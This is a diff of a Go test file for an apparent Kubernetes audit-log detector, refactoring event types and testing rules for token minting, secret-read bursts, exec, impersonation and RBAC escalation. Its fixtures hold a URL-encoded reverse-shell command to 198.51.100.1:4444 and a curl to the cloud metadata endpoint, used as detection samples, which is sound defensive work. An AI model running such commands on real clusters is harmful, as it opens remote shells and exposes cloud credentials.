@@ -11,6 +11,7 @@ import (
 
 	"github.com/google/go-cmp/cmp"
 
+	"github.com/kubegrant/kubegrant/detect/audit"
 	"github.com/kubegrant/kubegrant/reports"
 	"github.com/kubegrant/kubegrant/scanner"
 )
@@ -21,7 +22,7 @@ var t0 = time.Date(2026, 3, 1, 10, 0, 0, 0, time.UTC)
 type evo struct {
 	id, user, verb, group, res, sub, ns, name, ip, ua, dec, reason, uri, stage string
 	groups                                                                     []string
-	imp                                                                        *UserInfo
+	imp                                                                        *audit.RawUser
 	extra                                                                      map[string][]string
 	ann                                                                        map[string]string
 	req, resp                                                                  string
@@ -32,39 +33,39 @@ type evo struct {
 
 var evSeq int
 
-func ev(o evo) *Event {
+// ev builds the normalised event the stream would deliver for o.
+func ev(o evo) *audit.Event {
 	evSeq++
-	e := &Event{
+	e := &audit.RawEvent{
 		AuditID:    o.id,
 		Stage:      o.stage,
 		Verb:       o.verb,
 		RequestURI: o.uri,
-		User:       UserInfo{Username: o.user, Groups: o.groups, Extra: o.extra},
+		User:       audit.RawUser{Username: o.user, Groups: o.groups, Extra: o.extra},
 		UserAgent:  o.ua,
 		SourceIPs:  []string{o.ip},
 		Annotations: map[string]string{
-			AnnotationDecision: o.dec,
-			AnnotationReason:   o.reason,
+			audit.AnnotationDecision: o.dec,
+			audit.AnnotationReason:   o.reason,
 		},
 		ImpersonatedUser: o.imp,
 		RequestReceived:  t0.Add(o.at),
 		StageTimestamp:   t0.Add(o.at + 5*time.Millisecond),
-		Source:           scanner.Source{File: "audit.log", Line: o.line},
 	}
 	if e.AuditID == "" {
 		e.AuditID = fmt.Sprintf("id-%d", evSeq)
 	}
 	if e.Stage == "" {
-		e.Stage = StageResponseComplete
+		e.Stage = audit.StageResponseComplete
 	}
 	if o.dec == "" {
-		e.Annotations[AnnotationDecision] = "allow"
+		e.Annotations[audit.AnnotationDecision] = "allow"
 	}
 	if o.ip == "" {
 		e.SourceIPs = []string{"203.0.113.10"}
 	}
 	if o.res != "" {
-		e.ObjectRef = &ObjectRef{Resource: o.res, Subresource: o.sub, Namespace: o.ns, Name: o.name, APIGroup: o.group, APIVersion: "v1"}
+		e.ObjectRef = &audit.RawObjectRef{Resource: o.res, Subresource: o.sub, Namespace: o.ns, Name: o.name, APIGroup: o.group, APIVersion: "v1"}
 	}
 	for k, v := range o.ann {
 		e.Annotations[k] = v
@@ -76,13 +77,13 @@ func ev(o evo) *Event {
 		e.ResponseObject = json.RawMessage(o.resp)
 	}
 	if o.code != 0 {
-		e.ResponseStatus = &ResponseStatus{Code: o.code}
+		e.ResponseStatus = &audit.RawStatus{Code: o.code}
 	}
-	return e
+	return e.Normalize(scanner.Source{File: "audit.log", Line: o.line})
 }
 
 // run feeds events to a fresh catalogue and returns findings by rule id.
-func run(opts DetectOptions, events []*Event) map[string][]reports.Finding {
+func run(opts DetectOptions, events []*audit.Event) map[string][]reports.Finding {
 	out := map[string][]reports.Finding{}
 	ds := Detectors(opts)
 	for _, e := range events {
@@ -165,14 +166,14 @@ func TestGlobMatch(t *testing.T) {
 }
 
 func TestDetectionsFireAndDoNotFire(t *testing.T) {
-	tokenReq := func(user string, o evo) *Event {
+	tokenReq := func(user string, o evo) *audit.Event {
 		o.user, o.verb, o.res, o.sub = user, "create", "serviceaccounts", "token"
 		if o.ns == "" {
 			o.ns, o.name = "apps", "builder"
 		}
 		return ev(o)
 	}
-	secretGet := func(user, ns, name string, at time.Duration, o evo) *Event {
+	secretGet := func(user, ns, name string, at time.Duration, o evo) *audit.Event {
 		o.user, o.verb, o.res, o.ns, o.name, o.at = user, "get", "secrets", ns, name, at
 		if o.ua == "" {
 			o.ua = "kubectl/v1.34.0"
@@ -181,7 +182,7 @@ func TestDetectionsFireAndDoNotFire(t *testing.T) {
 	}
 	podSA := func(o evo) evo {
 		o.user = "system:serviceaccount:apps:web"
-		o.extra = map[string][]string{ExtraPodName: {"web-7d9f"}, ExtraNodeName: {"node-1"}, ExtraPodUID: {"u1"}}
+		o.extra = map[string][]string{audit.ExtraPodName: {"web-7d9f"}, audit.ExtraNodeName: {"node-1"}, audit.ExtraPodUID: {"u1"}}
 		return o
 	}
 	const crbAdmin = `{"kind":"ClusterRoleBinding","metadata":{"name":"x"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"kind":"User","name":"mallory"}]}`
@@ -193,83 +194,82 @@ func TestDetectionsFireAndDoNotFire(t *testing.T) {
 
 	checkDetectionCases(t, []detectionCase{
 		// KGD01
-		{name: "D01 user mints token", events: []*Event{tokenReq("alice", evo{ann: map[string]string{AnnotationIssuedCredential: "JTI=abc"}})},
+		{name: "D01 user mints token", events: []*audit.Event{tokenReq("alice", evo{ann: map[string]string{audit.AnnotationIssuedCredential: "JTI=abc"}})},
 			rule: "KGD01", want: 1, msg: "alice minted 1 token for ServiceAccount apps/builder via TokenRequest (credential IDs: JTI=abc)"},
-		{name: "D01 two mints same target make one finding", events: []*Event{tokenReq("alice", evo{}), tokenReq("alice", evo{at: time.Minute})},
+		{name: "D01 two mints same target make one finding", events: []*audit.Event{tokenReq("alice", evo{}), tokenReq("alice", evo{at: time.Minute})},
 			rule: "KGD01", want: 1, msg: "minted 2 tokens"},
-		{name: "D01 two targets make two findings", events: []*Event{tokenReq("alice", evo{}), tokenReq("alice", evo{ns: "apps", name: "other"})},
+		{name: "D01 two targets make two findings", events: []*audit.Event{tokenReq("alice", evo{}), tokenReq("alice", evo{ns: "apps", name: "other"})},
 			rule: "KGD01", want: 2},
-		{name: "D01 kubelet is allow-listed", events: []*Event{tokenReq("system:node:n1", evo{})}, rule: "KGD01", want: 0},
-		{name: "D01 kube-system SA is allow-listed", events: []*Event{tokenReq("system:serviceaccount:kube-system:foo", evo{})}, rule: "KGD01", want: 0},
-		{name: "D01 denied does not fire", events: []*Event{tokenReq("alice", evo{dec: "forbid"})}, rule: "KGD01", want: 0},
-		{name: "D01 RequestReceived stage ignored", events: []*Event{tokenReq("alice", evo{stage: "RequestReceived"})}, rule: "KGD01", want: 0},
-		{name: "D01 impersonating an allowed identity does not exempt", events: []*Event{tokenReq("mallory", evo{imp: &UserInfo{Username: "system:kube-controller-manager"}})},
+		{name: "D01 kubelet is allow-listed", events: []*audit.Event{tokenReq("system:node:n1", evo{})}, rule: "KGD01", want: 0},
+		{name: "D01 kube-system SA is allow-listed", events: []*audit.Event{tokenReq("system:serviceaccount:kube-system:foo", evo{})}, rule: "KGD01", want: 0},
+		{name: "D01 denied does not fire", events: []*audit.Event{tokenReq("alice", evo{dec: "forbid"})}, rule: "KGD01", want: 0},
+		{name: "D01 impersonating an allowed identity does not exempt", events: []*audit.Event{tokenReq("mallory", evo{imp: &audit.RawUser{Username: "system:kube-controller-manager"}})},
 			rule: "KGD01", want: 1, msg: "mallory (as system:kube-controller-manager)"},
-		{name: "D01 custom allow-list", opts: DetectOptions{TokenRequestAllow: []string{"alice"}}, events: []*Event{tokenReq("alice", evo{})}, rule: "KGD01", want: 0},
-		{name: "D01 empty allow-list flags the kubelet", opts: DetectOptions{TokenRequestAllow: []string{}}, events: []*Event{tokenReq("system:node:n1", evo{})}, rule: "KGD01", want: 1},
-		{name: "D01 get on serviceaccounts is not a TokenRequest", events: []*Event{ev(evo{user: "alice", verb: "get", res: "serviceaccounts", ns: "apps", name: "b"})}, rule: "KGD01", want: 0},
+		{name: "D01 custom allow-list", opts: DetectOptions{TokenRequestAllow: []string{"alice"}}, events: []*audit.Event{tokenReq("alice", evo{})}, rule: "KGD01", want: 0},
+		{name: "D01 empty allow-list flags the kubelet", opts: DetectOptions{TokenRequestAllow: []string{}}, events: []*audit.Event{tokenReq("system:node:n1", evo{})}, rule: "KGD01", want: 1},
+		{name: "D01 get on serviceaccounts is not a TokenRequest", events: []*audit.Event{ev(evo{user: "alice", verb: "get", res: "serviceaccounts", ns: "apps", name: "b"})}, rule: "KGD01", want: 0},
 
 		// KGD02
-		{name: "D02 three distinct secrets within window", events: []*Event{
+		{name: "D02 three distinct secrets within window", events: []*audit.Event{
 			secretGet("mallory", "apps", "a", 0, evo{}), secretGet("mallory", "apps", "b", time.Minute, evo{dec: "forbid"}), secretGet("mallory", "db", "c", 2*time.Minute, evo{}),
 		}, rule: "KGD02", want: 1, msg: "mallory read 3 distinct Secrets (2 allowed, 1 denied) in namespaces apps, db from 203.0.113.10 within 2m0s: apps/a, apps/b, db/c"},
-		{name: "D02 two distinct secrets do not fire", events: []*Event{
+		{name: "D02 two distinct secrets do not fire", events: []*audit.Event{
 			secretGet("mallory", "apps", "a", 0, evo{}), secretGet("mallory", "apps", "b", time.Minute, evo{}), secretGet("mallory", "apps", "a", 2*time.Minute, evo{}),
 		}, rule: "KGD02", want: 0},
-		{name: "D02 spread over more than the window", events: []*Event{
+		{name: "D02 spread over more than the window", events: []*audit.Event{
 			secretGet("mallory", "apps", "a", 0, evo{}), secretGet("mallory", "apps", "b", 4*time.Minute, evo{}), secretGet("mallory", "apps", "c", 8*time.Minute, evo{}),
 		}, rule: "KGD02", want: 0},
-		{name: "D02 different user agents are different clients", events: []*Event{
+		{name: "D02 different user agents are different clients", events: []*audit.Event{
 			secretGet("mallory", "apps", "a", 0, evo{ua: "a/1"}), secretGet("mallory", "apps", "b", time.Minute, evo{ua: "b/1"}), secretGet("mallory", "apps", "c", 2*time.Minute, evo{ua: "c/1"}),
 		}, rule: "KGD02", want: 0},
-		{name: "D02 overlapping windows merge into one burst", events: []*Event{
+		{name: "D02 overlapping windows merge into one burst", events: []*audit.Event{
 			secretGet("mallory", "apps", "a", 0, evo{}), secretGet("mallory", "apps", "b", time.Minute, evo{}), secretGet("mallory", "apps", "c", 2*time.Minute, evo{}),
 			secretGet("mallory", "apps", "d", 7*time.Minute, evo{}), secretGet("mallory", "apps", "e", 12*time.Minute, evo{}),
 		}, rule: "KGD02", want: 1, msg: "read 5 distinct Secrets"},
-		{name: "D02 two separate bursts", events: []*Event{
+		{name: "D02 two separate bursts", events: []*audit.Event{
 			secretGet("mallory", "apps", "a", 0, evo{}), secretGet("mallory", "apps", "b", time.Minute, evo{}), secretGet("mallory", "apps", "c", 2*time.Minute, evo{}),
 			secretGet("mallory", "apps", "d", 30*time.Minute, evo{}), secretGet("mallory", "apps", "e", 31*time.Minute, evo{}), secretGet("mallory", "apps", "f", 32*time.Minute, evo{}),
 		}, rule: "KGD02", want: 2},
-		{name: "D02 loopback excluded", events: []*Event{
+		{name: "D02 loopback excluded", events: []*audit.Event{
 			secretGet("mallory", "apps", "a", 0, evo{ip: "127.0.0.1"}), secretGet("mallory", "apps", "b", time.Minute, evo{ip: "127.0.0.1"}), secretGet("mallory", "apps", "c", 2*time.Minute, evo{ip: "127.0.0.1"}),
 		}, rule: "KGD02", want: 0},
-		{name: "D02 ipv6 loopback excluded", events: []*Event{
+		{name: "D02 ipv6 loopback excluded", events: []*audit.Event{
 			secretGet("mallory", "apps", "a", 0, evo{ip: "::1"}), secretGet("mallory", "apps", "b", time.Minute, evo{ip: "::1"}), secretGet("mallory", "apps", "c", 2*time.Minute, evo{ip: "::1"}),
 		}, rule: "KGD02", want: 0},
-		{name: "D02 helm release secrets excluded", events: []*Event{
+		{name: "D02 helm release secrets excluded", events: []*audit.Event{
 			secretGet("helm", "apps", "sh.helm.release.v1.a.v1", 0, evo{}), secretGet("helm", "apps", "sh.helm.release.v1.b.v1", time.Minute, evo{}), secretGet("helm", "apps", "sh.helm.release.v1.c.v1", 2*time.Minute, evo{}),
 		}, rule: "KGD02", want: 0},
-		{name: "D02 flux excluded", events: []*Event{
+		{name: "D02 flux excluded", events: []*audit.Event{
 			secretGet("system:serviceaccount:flux-system:kustomize-controller", "apps", "a", 0, evo{}), secretGet("system:serviceaccount:flux-system:kustomize-controller", "apps", "b", time.Minute, evo{}), secretGet("system:serviceaccount:flux-system:kustomize-controller", "apps", "c", 2*time.Minute, evo{}),
 		}, rule: "KGD02", want: 0},
-		{name: "D02 threshold option", opts: DetectOptions{SecretBurstThreshold: 2}, events: []*Event{
+		{name: "D02 threshold option", opts: DetectOptions{SecretBurstThreshold: 2}, events: []*audit.Event{
 			secretGet("mallory", "apps", "a", 0, evo{}), secretGet("mallory", "apps", "b", time.Minute, evo{}),
 		}, rule: "KGD02", want: 1},
 
 		// KGD03
-		{name: "D03 list secrets cluster-wide", events: []*Event{ev(evo{user: "mallory", verb: "list", res: "secrets"})}, rule: "KGD03", want: 1, msg: "mallory listed Secrets in all namespaces"},
-		{name: "D03 list secrets in kube-system", events: []*Event{ev(evo{user: "mallory", verb: "list", res: "secrets", ns: "kube-system"})}, rule: "KGD03", want: 1, msg: "namespace kube-system"},
-		{name: "D03 list secrets in an app namespace", events: []*Event{ev(evo{user: "mallory", verb: "list", res: "secrets", ns: "apps"})}, rule: "KGD03", want: 0},
-		{name: "D03 loopback", events: []*Event{ev(evo{user: "mallory", verb: "list", res: "secrets", ip: "127.0.0.1"})}, rule: "KGD03", want: 0},
-		{name: "D03 denied", events: []*Event{ev(evo{user: "mallory", verb: "list", res: "secrets", dec: "forbid"})}, rule: "KGD03", want: 0},
+		{name: "D03 list secrets cluster-wide", events: []*audit.Event{ev(evo{user: "mallory", verb: "list", res: "secrets"})}, rule: "KGD03", want: 1, msg: "mallory listed Secrets in all namespaces"},
+		{name: "D03 list secrets in kube-system", events: []*audit.Event{ev(evo{user: "mallory", verb: "list", res: "secrets", ns: "kube-system"})}, rule: "KGD03", want: 1, msg: "namespace kube-system"},
+		{name: "D03 list secrets in an app namespace", events: []*audit.Event{ev(evo{user: "mallory", verb: "list", res: "secrets", ns: "apps"})}, rule: "KGD03", want: 0},
+		{name: "D03 loopback", events: []*audit.Event{ev(evo{user: "mallory", verb: "list", res: "secrets", ip: "127.0.0.1"})}, rule: "KGD03", want: 0},
+		{name: "D03 denied", events: []*audit.Event{ev(evo{user: "mallory", verb: "list", res: "secrets", dec: "forbid"})}, rule: "KGD03", want: 0},
 
 		// KGD06
-		{name: "D06 curl with a pod token", events: []*Event{ev(podSA(evo{verb: "get", res: "secrets", ns: "apps", name: "db", ua: "curl/8.5.0"}))},
+		{name: "D06 curl with a pod token", events: []*audit.Event{ev(podSA(evo{verb: "get", res: "secrets", ns: "apps", name: "db", ua: "curl/8.5.0"}))},
 			rule: "KGD06", want: 1, sev: reports.High, msg: "token of pod apps/web-7d9f (ServiceAccount system:serviceaccount:apps:web, node node-1) used by client curl/8.5.0"},
-		{name: "D06 client-go controller UA does not fire", events: []*Event{ev(podSA(evo{verb: "get", res: "configmaps", ns: "apps", name: "c", ua: "web/v1.2 (linux/amd64) kubernetes/abc"}))}, rule: "KGD06", want: 0},
-		{name: "D06 curl without pod-name extra", events: []*Event{ev(evo{user: "system:serviceaccount:apps:web", verb: "get", res: "pods", ns: "apps", ua: "curl/8.5.0"})}, rule: "KGD06", want: 0},
+		{name: "D06 client-go controller UA does not fire", events: []*audit.Event{ev(podSA(evo{verb: "get", res: "configmaps", ns: "apps", name: "c", ua: "web/v1.2 (linux/amd64) kubernetes/abc"}))}, rule: "KGD06", want: 0},
+		{name: "D06 curl without pod-name extra", events: []*audit.Event{ev(evo{user: "system:serviceaccount:apps:web", verb: "get", res: "pods", ns: "apps", ua: "curl/8.5.0"})}, rule: "KGD06", want: 0},
 		{name: "D06 Go-http-client from an expected pod", opts: DetectOptions{PodGoClientAllow: []string{"apps/web-*"}},
-			events: []*Event{ev(podSA(evo{verb: "get", res: "pods", ns: "apps", ua: "Go-http-client/2.0"}))}, rule: "KGD06", want: 0},
-		{name: "D06 Go-http-client from another pod", events: []*Event{ev(podSA(evo{verb: "get", res: "pods", ns: "apps", ua: "Go-http-client/2.0"}))}, rule: "KGD06", want: 1},
-		{name: "D06 discovery burst", events: func() []*Event {
-			var es []*Event
+			events: []*audit.Event{ev(podSA(evo{verb: "get", res: "pods", ns: "apps", ua: "Go-http-client/2.0"}))}, rule: "KGD06", want: 0},
+		{name: "D06 Go-http-client from another pod", events: []*audit.Event{ev(podSA(evo{verb: "get", res: "pods", ns: "apps", ua: "Go-http-client/2.0"}))}, rule: "KGD06", want: 1},
+		{name: "D06 discovery burst", events: func() []*audit.Event {
+			var es []*audit.Event
 			for i, r := range []string{"pods", "secrets", "configmaps", "services", "deployments", "roles", "rolebindings", "nodes", "namespaces", "jobs", "cronjobs", "ingresses"} {
 				es = append(es, ev(podSA(evo{verb: "list", res: r, ns: "apps", ua: "enum/1.0", dec: "forbid", at: time.Duration(i) * time.Second})))
 			}
 			return es
 		}(), rule: "KGD06", want: 1, msg: "used by discovery burst: 12 requests (0 allowed, 12 denied)"},
-		{name: "D06 slow listing is no burst", events: func() []*Event {
-			var es []*Event
+		{name: "D06 slow listing is no burst", events: func() []*audit.Event {
+			var es []*audit.Event
 			for i, r := range []string{"pods", "secrets", "configmaps", "services", "deployments", "roles", "rolebindings", "nodes", "namespaces", "jobs", "cronjobs", "ingresses"} {
 				es = append(es, ev(podSA(evo{verb: "list", res: r, ns: "apps", ua: "enum/1.0", at: time.Duration(i) * 10 * time.Second})))
 			}
@@ -277,78 +277,74 @@ func TestDetectionsFireAndDoNotFire(t *testing.T) {
 		}(), rule: "KGD06", want: 0},
 
 		// KGD07
-		{name: "D07 exec with IMDS curl", events: []*Event{ev(evo{user: "alice", verb: "create", res: "pods", sub: "exec", ns: "apps", name: "web", stage: StageResponseStarted, code: 101,
+		{name: "D07 exec with IMDS curl", events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", sub: "exec", ns: "apps", name: "web", stage: audit.StageResponseStarted, code: 101,
 			uri: "/api/v1/namespaces/apps/pods/web/exec?command=curl&command=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F&container=c&stdout=true"})},
 			rule: "KGD07", want: 1, sev: reports.High, msg: "alice ran exec in pod apps/web (1 session): curl http://169.254.169.254/latest/meta-data/ [cloud metadata access]"},
-		{name: "D07 plain exec is medium", events: []*Event{ev(evo{user: "alice", verb: "create", res: "pods", sub: "exec", ns: "apps", name: "web", uri: "/api/v1/namespaces/apps/pods/web/exec?command=ls"})},
+		{name: "D07 plain exec is medium", events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", sub: "exec", ns: "apps", name: "web", uri: "/api/v1/namespaces/apps/pods/web/exec?command=ls"})},
 			rule: "KGD07", want: 1, sev: reports.Medium},
-		{name: "D07 reverse shell", events: []*Event{ev(evo{user: "alice", verb: "create", res: "pods", sub: "exec", ns: "apps", name: "web", uri: "/api/v1/namespaces/apps/pods/web/exec?command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F198.51.100.1%2F4444+0%3E%261"})},
+		{name: "D07 reverse shell", events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", sub: "exec", ns: "apps", name: "web", uri: "/api/v1/namespaces/apps/pods/web/exec?command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F198.51.100.1%2F4444+0%3E%261"})},
 			rule: "KGD07", want: 1, sev: reports.High, msg: "[reverse shell]"},
-		{name: "D07 started and complete count once", events: []*Event{
-			ev(evo{id: "x1", user: "alice", verb: "create", res: "pods", sub: "exec", ns: "apps", name: "web", stage: StageResponseStarted, uri: "/x?command=ls"}),
-			ev(evo{id: "x1", user: "alice", verb: "create", res: "pods", sub: "exec", ns: "apps", name: "web", uri: "/x?command=ls"}),
-		}, rule: "KGD07", want: 1, msg: "(1 session)"},
-		{name: "D07 denied exec", events: []*Event{ev(evo{user: "alice", verb: "create", res: "pods", sub: "exec", ns: "apps", name: "web", dec: "forbid"})}, rule: "KGD07", want: 0},
-		{name: "D07 allow-listed caller", opts: DetectOptions{ExecAllow: []string{"alice"}}, events: []*Event{ev(evo{user: "alice", verb: "create", res: "pods", sub: "exec", ns: "apps", name: "web"})}, rule: "KGD07", want: 0},
-		{name: "D07 token in command is redacted", events: []*Event{ev(evo{user: "alice", verb: "create", res: "pods", sub: "exec", ns: "apps", name: "web",
+		{name: "D07 denied exec", events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", sub: "exec", ns: "apps", name: "web", dec: "forbid"})}, rule: "KGD07", want: 0},
+		{name: "D07 allow-listed caller", opts: DetectOptions{ExecAllow: []string{"alice"}}, events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", sub: "exec", ns: "apps", name: "web"})}, rule: "KGD07", want: 0},
+		{name: "D07 token in command is redacted", events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", sub: "exec", ns: "apps", name: "web",
 			uri: "/x?command=curl&command=-H&command=Authorization%3A+Bearer+s3cr3tvalue&command=https%3A%2F%2Fkubernetes"})},
 			rule: "KGD07", want: 1, msg: "Authorization: Bearer <redacted>"},
 
 		// KGD08–KGD10
-		{name: "D08 ephemeral container", events: []*Event{ev(evo{user: "alice", verb: "patch", res: "pods", sub: "ephemeralcontainers", ns: "apps", name: "web"})}, rule: "KGD08", want: 1},
-		{name: "D08 get ephemeral containers", events: []*Event{ev(evo{user: "alice", verb: "get", res: "pods", sub: "ephemeralcontainers", ns: "apps", name: "web"})}, rule: "KGD08", want: 0},
-		{name: "D09 port-forward", events: []*Event{ev(evo{user: "alice", verb: "create", res: "pods", sub: "portforward", ns: "apps", name: "db"})}, rule: "KGD09", want: 1, msg: "alice port-forwarded to pod apps/db"},
-		{name: "D09 pods get", events: []*Event{ev(evo{user: "alice", verb: "get", res: "pods", ns: "apps", name: "db"})}, rule: "KGD09", want: 0},
-		{name: "D10 nodes proxy run", events: []*Event{ev(evo{user: "mon", verb: "create", res: "nodes", sub: "proxy", name: "n1", uri: "/api/v1/nodes/n1/proxy/run/apps/web/c?cmd=id"})},
+		{name: "D08 ephemeral container", events: []*audit.Event{ev(evo{user: "alice", verb: "patch", res: "pods", sub: "ephemeralcontainers", ns: "apps", name: "web"})}, rule: "KGD08", want: 1},
+		{name: "D08 get ephemeral containers", events: []*audit.Event{ev(evo{user: "alice", verb: "get", res: "pods", sub: "ephemeralcontainers", ns: "apps", name: "web"})}, rule: "KGD08", want: 0},
+		{name: "D09 port-forward", events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", sub: "portforward", ns: "apps", name: "db"})}, rule: "KGD09", want: 1, msg: "alice port-forwarded to pod apps/db"},
+		{name: "D09 pods get", events: []*audit.Event{ev(evo{user: "alice", verb: "get", res: "pods", ns: "apps", name: "db"})}, rule: "KGD09", want: 0},
+		{name: "D10 nodes proxy run", events: []*audit.Event{ev(evo{user: "mon", verb: "create", res: "nodes", sub: "proxy", name: "n1", uri: "/api/v1/nodes/n1/proxy/run/apps/web/c?cmd=id"})},
 			rule: "KGD10", want: 1, sev: reports.Critical, msg: "mon reached the kubelet of node n1 through nodes/proxy (1 request): /run/apps/web/c"},
-		{name: "D10 nodes proxy metrics", events: []*Event{ev(evo{user: "mon", verb: "get", res: "nodes", sub: "proxy", name: "n1", uri: "/api/v1/nodes/n1/proxy/metrics/cadvisor"})}, rule: "KGD10", want: 0},
+		{name: "D10 nodes proxy metrics", events: []*audit.Event{ev(evo{user: "mon", verb: "get", res: "nodes", sub: "proxy", name: "n1", uri: "/api/v1/nodes/n1/proxy/metrics/cadvisor"})}, rule: "KGD10", want: 0},
 
 		// KGD11
-		{name: "D11 impersonate system:masters", events: []*Event{ev(evo{user: "mallory", verb: "get", res: "secrets", ns: "kube-system", imp: &UserInfo{Username: "bob", Groups: []string{"system:masters"}}})},
+		{name: "D11 impersonate system:masters", events: []*audit.Event{ev(evo{user: "mallory", verb: "get", res: "secrets", ns: "kube-system", imp: &audit.RawUser{Username: "bob", Groups: []string{"system:masters"}}})},
 			rule: "KGD11", want: 1, sev: reports.Critical, msg: "mallory impersonated group system:masters"},
-		{name: "D11 impersonate ordinary user", events: []*Event{ev(evo{user: "system:admin", verb: "get", res: "pods", ns: "ns1", imp: &UserInfo{Username: "bob", Groups: []string{"system:authenticated"}}})}, rule: "KGD11", want: 0},
-		{name: "D11 impersonate kube-system SA", events: []*Event{ev(evo{user: "mallory", verb: "get", res: "pods", imp: &UserInfo{Username: "system:serviceaccount:kube-system:replicaset-controller"}})}, rule: "KGD11", want: 1},
+		{name: "D11 impersonate ordinary user", events: []*audit.Event{ev(evo{user: "system:admin", verb: "get", res: "pods", ns: "ns1", imp: &audit.RawUser{Username: "bob", Groups: []string{"system:authenticated"}}})}, rule: "KGD11", want: 0},
+		{name: "D11 impersonate kube-system SA", events: []*audit.Event{ev(evo{user: "mallory", verb: "get", res: "pods", imp: &audit.RawUser{Username: "system:serviceaccount:kube-system:replicaset-controller"}})}, rule: "KGD11", want: 1},
 
 		// KGD12
-		{name: "D12 cluster-admin binding", events: []*Event{ev(evo{user: "mallory", verb: "create", group: rbacGroup, res: "clusterrolebindings", name: "x", req: crbAdmin})},
+		{name: "D12 cluster-admin binding", events: []*audit.Event{ev(evo{user: "mallory", verb: "create", group: rbacGroup, res: "clusterrolebindings", name: "x", req: crbAdmin})},
 			rule: "KGD12", want: 1, msg: "mallory created ClusterRoleBinding x to cluster-admin for User mallory"},
-		{name: "D12 apiserver bootstrap reconciliation", events: []*Event{ev(evo{user: "system:apiserver", groups: []string{"system:masters"}, verb: "create", group: rbacGroup, res: "clusterrolebindings", name: "cluster-admin", req: crbAdmin})},
+		{name: "D12 apiserver bootstrap reconciliation", events: []*audit.Event{ev(evo{user: "system:apiserver", groups: []string{"system:masters"}, verb: "create", group: rbacGroup, res: "clusterrolebindings", name: "cluster-admin", req: crbAdmin})},
 			rule: "KGD12", want: 0},
-		{name: "D12 view binding", events: []*Event{ev(evo{user: "mallory", verb: "create", group: rbacGroup, res: "clusterrolebindings", name: "x", req: crbView})}, rule: "KGD12", want: 0},
-		{name: "D12 metadata level (no body)", events: []*Event{ev(evo{user: "mallory", verb: "create", group: rbacGroup, res: "clusterrolebindings", name: "x"})}, rule: "KGD12", want: 0},
+		{name: "D12 view binding", events: []*audit.Event{ev(evo{user: "mallory", verb: "create", group: rbacGroup, res: "clusterrolebindings", name: "x", req: crbView})}, rule: "KGD12", want: 0},
+		{name: "D12 metadata level (no body)", events: []*audit.Event{ev(evo{user: "mallory", verb: "create", group: rbacGroup, res: "clusterrolebindings", name: "x"})}, rule: "KGD12", want: 0},
 
 		// KGD13
-		{name: "D13 SA writes a role", events: []*Event{ev(evo{user: "system:serviceaccount:apps:ci", verb: "create", group: rbacGroup, res: "roles", ns: "apps", name: "r"})},
+		{name: "D13 SA writes a role", events: []*audit.Event{ev(evo{user: "system:serviceaccount:apps:ci", verb: "create", group: rbacGroup, res: "roles", ns: "apps", name: "r"})},
 			rule: "KGD13", want: 1, msg: "ServiceAccount system:serviceaccount:apps:ci wrote RBAC objects (1 request): create Role apps/r"},
-		{name: "D13 kube-system SA", events: []*Event{ev(evo{user: "system:serviceaccount:kube-system:x", verb: "create", group: rbacGroup, res: "roles", ns: "apps", name: "r"})}, rule: "KGD13", want: 0},
-		{name: "D13 user writes a role", events: []*Event{ev(evo{user: "alice", verb: "create", group: rbacGroup, res: "roles", ns: "apps", name: "r"})}, rule: "KGD13", want: 0},
-		{name: "D13 SA reads roles", events: []*Event{ev(evo{user: "system:serviceaccount:apps:ci", verb: "list", group: rbacGroup, res: "roles", ns: "apps"})}, rule: "KGD13", want: 0},
+		{name: "D13 kube-system SA", events: []*audit.Event{ev(evo{user: "system:serviceaccount:kube-system:x", verb: "create", group: rbacGroup, res: "roles", ns: "apps", name: "r"})}, rule: "KGD13", want: 0},
+		{name: "D13 user writes a role", events: []*audit.Event{ev(evo{user: "alice", verb: "create", group: rbacGroup, res: "roles", ns: "apps", name: "r"})}, rule: "KGD13", want: 0},
+		{name: "D13 SA reads roles", events: []*audit.Event{ev(evo{user: "system:serviceaccount:apps:ci", verb: "list", group: rbacGroup, res: "roles", ns: "apps"})}, rule: "KGD13", want: 0},
 
 		// KGD14
-		{name: "D14 patched to */*", events: []*Event{ev(evo{user: "alice", verb: "patch", group: rbacGroup, res: "clusterroles", name: "r",
+		{name: "D14 patched to */*", events: []*audit.Event{ev(evo{user: "alice", verb: "patch", group: rbacGroup, res: "clusterroles", name: "r",
 			req: `{"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}`, resp: `{"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}`})},
 			rule: "KGD14", want: 1, sev: reports.Critical, msg: "alice patched ClusterRole r with wildcards: rule 0: verbs * on resources *"},
-		{name: "D14 no wildcard", events: []*Event{ev(evo{user: "alice", verb: "create", group: rbacGroup, res: "roles", ns: "a", name: "r", req: `{"rules":[{"apiGroups":[""],"resources":["pods"],"verbs":["get"]}]}`})}, rule: "KGD14", want: 0},
-		{name: "D14 non-resource wildcard is not this", events: []*Event{ev(evo{user: "alice", verb: "create", group: rbacGroup, res: "clusterroles", name: "r", req: `{"rules":[{"nonResourceURLs":["*"],"verbs":["*"]}]}`})}, rule: "KGD14", want: 0},
+		{name: "D14 no wildcard", events: []*audit.Event{ev(evo{user: "alice", verb: "create", group: rbacGroup, res: "roles", ns: "a", name: "r", req: `{"rules":[{"apiGroups":[""],"resources":["pods"],"verbs":["get"]}]}`})}, rule: "KGD14", want: 0},
+		{name: "D14 non-resource wildcard is not this", events: []*audit.Event{ev(evo{user: "alice", verb: "create", group: rbacGroup, res: "clusterroles", name: "r", req: `{"rules":[{"nonResourceURLs":["*"],"verbs":["*"]}]}`})}, rule: "KGD14", want: 0},
 
 		// KGD17
-		{name: "D17 privileged pod", events: []*Event{ev(evo{user: "alice", verb: "create", res: "pods", ns: "apps", req: privPod})}, rule: "KGD17", want: 1, msg: "alice created pods apps/p with privileged container c"},
